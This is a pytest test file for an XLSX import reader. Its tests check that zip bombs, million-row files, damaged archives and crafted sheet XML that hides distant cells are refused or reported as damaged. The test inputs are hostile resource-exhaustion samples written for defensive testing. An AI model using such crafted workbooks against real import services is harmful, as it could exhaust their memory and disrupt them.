def test_cells_without_refs_or_self_closed_are_counted_as_readers_place_them(tmp_path):
    rows = [
        [_s("A1", "编号"), _s("B1", "名称")],
        ['<c t="inlineStr"><is><t>T1</t></is></c>', '<c s="1"/>', "<c><v>5</v></c>"],  # A2, (B2 empty), C2
        [_n("A3", 1), '<c r="IV3" s="1"/>'],  # a formatted empty cell holds no value
    ]
    path = _raw_xlsx(tmp_path / "refless.xlsx", rows)
    table = lio.read_table(path)
    assert table.shape == (2, 3) and table.loc[2].tolist() == ["T1", None, 5]
    with pytest.raises(FileLimitError, match=r"values in column C \(column 3\); imports read at most 2"):
        lio.read_table(path, limits=lio.ReadLimits(max_columns=2))


def test_quoted_attribute_values_cannot_hide_a_cell_from_the_scan(tmp_path):
    """XML allows ``/>`` and ``>`` inside a quoted value: the cell at XFD2 still holds 1 and is refused.

    The old scan read ``<c r="XFD2" a="/>">`` as a self-closed (empty) cell and a single-quoted ref as
    no ref at all (so the cell was placed at C2), and calamine then loaded a 16,384-column grid.
    """
    head = [_s("A1", "编号"), _s("B1", "名称")]
    hidden = {
        "slash": [_s("A2", "T1"), '<c r="XFD2" a="/>"><v>1</v></c>'],
        "gt": [_s("A2", "T1"), '<c r="XFD2" a="x>y" s=\'/>\'><v>1</v></c>'],
        "walked": ['<c t="inlineStr"><is><t>T1</t></is></c>', '<c r="XFD2" a="/>"><v>1</v></c>'],
        "single": ['<c t="inlineStr"><is><t>T1</t></is></c>', "<c r='XFD2'><v>1</v></c>"],
    }
    for name, row in hidden.items():
        path = _raw_xlsx(tmp_path / f"{name}.xlsx", [head, row])
        with pytest.raises(FileLimitError, match=r"values in column XFD \(column 16,384\)"):
            lio.read_table(path)
    # a really self-closed cell beside an attribute holding "/>" still holds no value: A1:B2 is read
    fine = _raw_xlsx(tmp_path / "fine.xlsx", [head, [_s("A2", "T1"), _n("B2", 7), '<c r="IV2" a="/>" s="1"/>']])
    table = lio.read_table(fine, limits=lio.ReadLimits(max_columns=2))
    assert table.shape == (1, 2) and table.loc[2].tolist() == ["T1", 7]


def test_reading_leaves_the_garbage_collector_as_it_found_it(tmp_path):
    """`read_table` pauses the collector while it reads (also when it refuses a file), then restores it."""
    ok = _raw_xlsx(tmp_path / "ok.xlsx", [[_s("A1", "编号")], [_s("A2", "T1")]])
    wide = _raw_xlsx(tmp_path / "wide.xlsx", [[_s("A1", "编号")], [_s("A2", "T1"), _n("XFD2", 1)]])
    assert gc.isenabled()
    try:
        assert lio.read_table(ok).shape == (1, 1) and gc.isenabled()
        with pytest.raises(FileLimitError):
            lio.read_table(wide)
        assert gc.isenabled()
        gc.disable()  # a caller that turned it off keeps it off
        assert lio.read_table(ok).shape == (1, 1) and not gc.isenabled()
    finally:
        gc.enable()


def test_zip_bombs_and_oversized_xlsx_are_refused(tmp_path):
    rows = [[_s("A1", "编号")], [_s("A2", "T1")]]
    bomb = _raw_xlsx(tmp_path / "bomb.xlsx", rows, extra={"xl/media/pad.bin": b"\0" * (8 * 1024 * 1024)})
    with pytest.raises(FileLimitError, match=r"the part 'xl/media/pad.bin' decompresses [\d,]+ times .* at most 200 "):
        lio.read_table(bomb)
    with pytest.raises(FileLimitError, match=r"holds 8 MB once decompressed; imports read at most 1 MB"):
        lio.read_table(bomb, limits=lio.ReadLimits(max_uncompressed_bytes=1024 * 1024, max_compression_ratio=1e9))
    million = _raw_xlsx(tmp_path / "million.xlsx", [[_n(f"A{i}", 1)] for i in range(1, 1_000_001)])
    assert million.stat().st_size < 5 * 1024 * 1024  # the 2.6 MB, 1M-row file
    with pytest.raises(FileLimitError, match=r"values beyond row 200,000"):
        lio.read_table(million)


@pytest.mark.parametrize(
    ("content", "match"),
    [
        (b"", "is not an XLSX workbook"),
        (b"id,name\nT1,x\n", "is not an XLSX workbook"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512, "is not an XLSX workbook"),  # .xls or encrypted
    ],
)
def test_empty_or_non_zip_xlsx_is_unreadable(tmp_path, content, match):
    path = tmp_path / "台账.xlsx"
    path.write_bytes(content)
    with pytest.raises(UnreadableFileError, match=match):
        lio.read_table(path)


def test_damaged_xlsx_is_unreadable(tmp_path):
    good = _raw_xlsx(tmp_path / "good.xlsx", [[_s("A1", "编号")], [_s("A2", "T1")]])
    (tmp_path / "cut.xlsx").write_bytes(good.read_bytes()[:-40])  # end of the zip cut off
    with pytest.raises(UnreadableFileError, match=r"'cut.xlsx' is not an XLSX workbook"):
        lio.read_table(tmp_path / "cut.xlsx")
    bad_xml = _raw_xlsx(tmp_path / "badxml.xlsx", [[_s("A1", "编号")], ['<c r="A2"><v>1</c>']])
    with pytest.raises(UnreadableFileError, match=r"'badxml.xlsx' is damaged"):
        lio.read_table(bad_xml)
    no_workbook = tmp_path / "noworkbook.xlsx"
    with zipfile.ZipFile(no_workbook, "w") as zf:
        zf.writestr("_rels/.rels", _RELS)
    with pytest.raises(UnreadableFileError, match=r"'noworkbook.xlsx' is damaged \(KeyError"):
        lio.read_table(no_workbook)
    broken_workbook = _raw_xlsx(tmp_path / "brokenwb.xlsx", [[_s("A1", "编号")]])
    with zipfile.ZipFile(broken_workbook, "a") as zf, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # a second xl/workbook.xml: the later one wins
        zf.writestr("xl/workbook.xml", "<workbook><sheets><sheet")
    with pytest.raises(UnreadableFileError, match=r"'brokenwb.xlsx' is damaged \(ParseError"):
        lio.read_table(broken_workbook)


_PEAK_SCRIPT = """
import re, sys
from pathlib import Path
from layers import io
from layers.errors import FileLimitError

def peak():  # VmHWM: this process's peak RSS since exec (ru_maxrss would start at the parent's)
    return int(re.search(r"VmHWM:\\s+(\\d+) kB", Path("/proc/self/status").read_text()).group(1)) * 1024

before = peak()
try:
    shape = io.read_table(sys.argv[1]).shape
except FileLimitError:
    shape = "refused"
print(shape, peak() - before)
"""


def _read_peak_bytes(path):
    """Read ``path`` in a fresh process; return (shape or "refused", growth of its peak RSS in bytes)."""
    root = Path(__file__).resolve().parents[2]
    done = subprocess.run([sys.executable, "-c", _PEAK_SCRIPT, str(path)], capture_output=True, text=True,
                          timeout=300, check=True, cwd=root, env={**os.environ, "PYTHONPATH": str(root)})  # fmt: skip
    shape, peak = done.stdout.rsplit(" ", 1)
    return shape, int(peak)


def _uncompressed_bytes(path):
    with zipfile.ZipFile(path) as zf:
        return sum(info.file_size for info in zf.infolist())


def test_xlsx_reads_within_ten_times_their_uncompressed_size(tmp_path):
    """Peak memory of a wide, tall sheet stays under 10x its XML; refused files cost next to nothing."""
    header = [_s(f"{get_column_letter(j)}1", f"列{j}") for j in range(1, 61)]
    body = [
        [_n(f"{get_column_letter(j)}{i}", i * j) if j % 2 else _s(f"{get_column_letter(j)}{i}", f"值{i}")
         for j in range(1, 61)]
        for i in range(2, 5002)
    ]  # fmt: skip
    big = _raw_xlsx(tmp_path / "big.xlsx", [header, *body])
    shape, peak = _read_peak_bytes(big)
    assert shape == "(5000, 60)"
    assert peak < 10 * _uncompressed_bytes(big), (peak, _uncompressed_bytes(big))
    wide = _raw_xlsx(tmp_path / "wide.xlsx", [[_s("A1", "编号")], *([_s(f"A{i}", "T"), _n(f"XFD{i}", 1)]
                                                                      for i in range(2, 8001))])  # fmt: skip
    shape, peak = _read_peak_bytes(wide)
    assert shape == "refused" and peak < 50 * 1024 * 1024  # the old reader took 3.5 GB


def test_refs_beyond_xfd_are_refused_by_column_not_a_traceback(tmp_path):
    """A four-letter ref (past Excel's last column, XFD) is counted as the column it names and refused."""
    path = _raw_xlsx(tmp_path / "abcd.xlsx", [[_s("A1", "编号")], [_s("A2", "T1"), _n("ABCD2", 1)]])
    with pytest.raises(FileLimitError, match=r"ABCD 列（第 19,010 列）有值.*values in column ABCD \(column 19,010\)"):
        lio.read_table(path)


def _random_cell(rng: random.Random, row: int, *, hostile: float) -> str:
    """One ``<c>`` tag of a well-formed sheet: open or self-closed, with attributes as Excel writes them.

    With probability ``hostile`` each, also refs of 4 letters or 8 digits, ``>`` and ``/>`` inside quoted
    values, single quotes, two spaces, and cells without a ref or with the ref not first: what the
    array scan leaves to the walk.
    """
    letters = "".join(rng.choice(string.ascii_uppercase) for _ in range(rng.choice([1] * 20 + [2, 3])))
    digits = str(row).zfill(rng.choice([0, 0, 0, 3]))
    attributes = ["", ' s="1"', ' t="n"', ' s="1" t="n"', ' t="str" cm="1"', ' vm="1" ph="1"']
    letters += "Z" if rng.random() < hostile else ""
    digits = str(rng.randrange(10**7, 10**8)) if rng.random() < hostile else digits
    if rng.random() < hostile:
        attributes = [' a="/>"', ' a="x>y"', ' a="x/>" b="&gt;"', " a='q'", ' a="\'"', '  s="2"']
    ref, attribute = f'r="{letters}{digits}"', rng.choice(attributes)
    if rng.random() < hostile:
        return f"<c{attribute}><v>1</v></c>"  # no ref: the next position
    if rng.random() < hostile:
        return f"<c{attribute} {ref}><v>1</v></c>"  # the ref not first
    if rng.random() < 0.3:
        return f"<c {ref}{attribute}/>"  # formatting only: no value
    return f"<c {ref}{attribute}><v>{rng.randrange(100)}</v></c>"


def _calamine_grid(path: Path) -> tuple[int, int]:
    """Return (rows, columns) of the grid python-calamine loads for the first sheet (from A1)."""
    import python_calamine

    with python_calamine.CalamineWorkbook.from_path(path) as wb:
        rows = wb.get_sheet_by_index(0).to_python(skip_empty_area=False)
    return len(rows), max((len(r) for r in rows), default=0)


@pytest.mark.parametrize("prefix", ["", "x:"])
def test_the_scan_finds_at_least_the_grid_calamine_loads(tmp_path, prefix):
    """On random sheets the used range is never smaller than calamine's grid, and equal when every cell has a ref.

    The array scan and the expat walk are each checked on every sheet (the walk by itself, the array
    scan where it takes every chunk): refs of 1-4 letters and up to 8 digits, leading zeros, self-closed
    cells, ``/>``, ``>`` and quotes inside attribute values, cells without a ref (placed after the last),
    with and without a namespace prefix.
    """
    rng = random.Random(20261205)
    limits = lio.ReadLimits(max_rows=10**9, max_columns=10**9)
    taken, left = {True: 0, False: 0}, 0
    for case in range(150):
        hostile = rng.choice([0, 0, 0.002, 0.01, 0.03])
        rows = []
        for row in range(1, rng.randrange(2, 30)):
            cells = [_random_cell(rng, row, hostile=hostile) for _ in range(rng.choice([1, 3, 8]))]
            rows.append(f'<row r="{row}">{"".join(cells)}</row>')
        body = "".join(rows).replace("<c", f"<{prefix}c").replace("</c>", f"</{prefix}c>")
        body = body.replace("<v>", f"<{prefix}v>").replace("</v>", f"</{prefix}v>")
        path = _raw_xlsx(tmp_path / f"random{case}.xlsx", [], body=body, prefix=prefix)
        with zipfile.ZipFile(path) as zf:
            sheet = zf.read("xl/worksheets/sheet1.xml")
        walk = lio._RangeScan(limits, "test")
        walk.walk(stdlib_io.BytesIO(sheet))
        if walk.rows * walk.columns <= 10**6:  # else calamine's grid would not fit (a ref of 8 digits or 4 letters)
            rows, columns = _calamine_grid(path)
            assert walk.rows >= rows and walk.columns >= columns, (case, body)
            if not hostile:
                assert (walk.rows, walk.columns) == (rows, columns), (case, body)
        fast = lio._RangeScan(limits, "test")
        if fast.add_fast(sheet, f"<{prefix}c".encode()):
            taken[hostile > 0] += 1
            assert (fast.rows, fast.columns, fast.cells) == (walk.rows, walk.columns, walk.cells), (case, body)
        else:
            assert hostile, body
            left += 1
    assert taken[False] > 40 and taken[True] > 10 and left > 10, (taken, left)


_HIDING = {  # each places a value at row 1,000,000 or in column IU by calamine's reading of the XML
    "comment": '<row r="1000000"><!-- <row r="1"> --><c><v>1</v></c></row>',
    "instruction": '<row r="1000000"><?pi <row r="1">?><c><v>1</v></c></row>',
    "cdata": '<row r="1000000"><c t="inlineStr"><is><t><![CDATA[<row r="1">]]></t></is></c><c><v>1</v></c></row>',
    "lower case": '<row r="2"><c r="iu2"><v>1</v></c></row>',
    "other prefix": '<row r="2"><y:c xmlns:y="urn:y" r="IU2"><y:v>1</y:v></y:c></row>',
    "second r": '<row r="2"><c r="A2" s="1" r="IU2"><v>1</v></c></row>',
    "second r spaced": '<row r="2"><c r="A2" r ="IU2"><v>1</v></c></row>',
    "row in a cell": '<row r="1000000"><c r="A1"><row r="1"/></c><c><v>1</v></c></row>',
    "lt in a value": '<row r="2"><c r="IU2" a="<"><v>1</v></c></row>',
}


@pytest.mark.parametrize("name", list(_HIDING))
def test_markup_calamine_reads_otherwise_cannot_hide_a_cell_from_the_scan(tmp_path, name):
    """Comments, instructions, CDATA, refs in lower case, other prefixes, a second ``r``, rows inside cells
    and ``<`` in a value: the cell calamine would place far away is found, or the file is refused as damaged."""
    head = '<row r="1"><c r="A1" t="inlineStr"><is><t>编号</t></is></c></row>'
    path = _raw_xlsx(tmp_path / "hiding.xlsx", [], body=head + _HIDING[name])
    with pytest.raises((FileLimitError, UnreadableFileError), match=r"(row 1,000,000|column IU|is damaged)"):
        lio.read_table(path, limits=lio.ReadLimits(max_columns=10))


def test_a_cell_without_a_ref_after_an_array_scanned_chunk_is_placed_where_calamine_places_it(tmp_path, monkeypatch):
    """The array scan does not follow rows: when a later chunk needs the walk, the walk starts from the top.

    (It used to go on from the chunk with a stale row, putting the last cell of row 199,999 in row 2.)
    """
    monkeypatch.setattr(lio, "_CHUNK_BYTES", 4096)
    head = '<row r="1"><c r="A1" t="inlineStr"><is><t>编号</t></is></c></row><row r="199999">'
    styled = "".join(f'<c r="{get_column_letter(j)}199999" s="1"/>' for j in range(1, 200))  # > one chunk
    gap = "<x/>" + " " * 9000  # the cell without a ref starts a chunk of its own
    path = _raw_xlsx(tmp_path / "stale.xlsx", [], body=head + styled + gap + "<c><v>1</v></c></row>")
    with pytest.raises(FileLimitError, match=r"values beyond row 199,998 \(in row 199,999\)"):
        lio.read_table(path, limits=lio.ReadLimits(max_rows=199_998))


def test_a_damaged_deflate_stream_is_reported_not_raised(tmp_path):
    rows = [[_s("A1", "编号")], *([_n(f"A{i}", i), _s(f"B{i}", f"x{i * 31 % 977}")] for i in range(2, 3000))]
    path = _raw_xlsx(tmp_path / "corrupt.xlsx", rows)
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as zf:
        info = zf.getinfo("xl/worksheets/sheet1.xml")
    start = info.header_offset + 30 + len(info.filename) + len(info.extra)
    data[start + 2000 : start + 2050] = bytes(b ^ 0xA5 for b in data[start + 2000 : start + 2050])
    path.write_bytes(bytes(data))
    with pytest.raises(UnreadableFileError, match="is damaged"):
        lio.read_table(path)
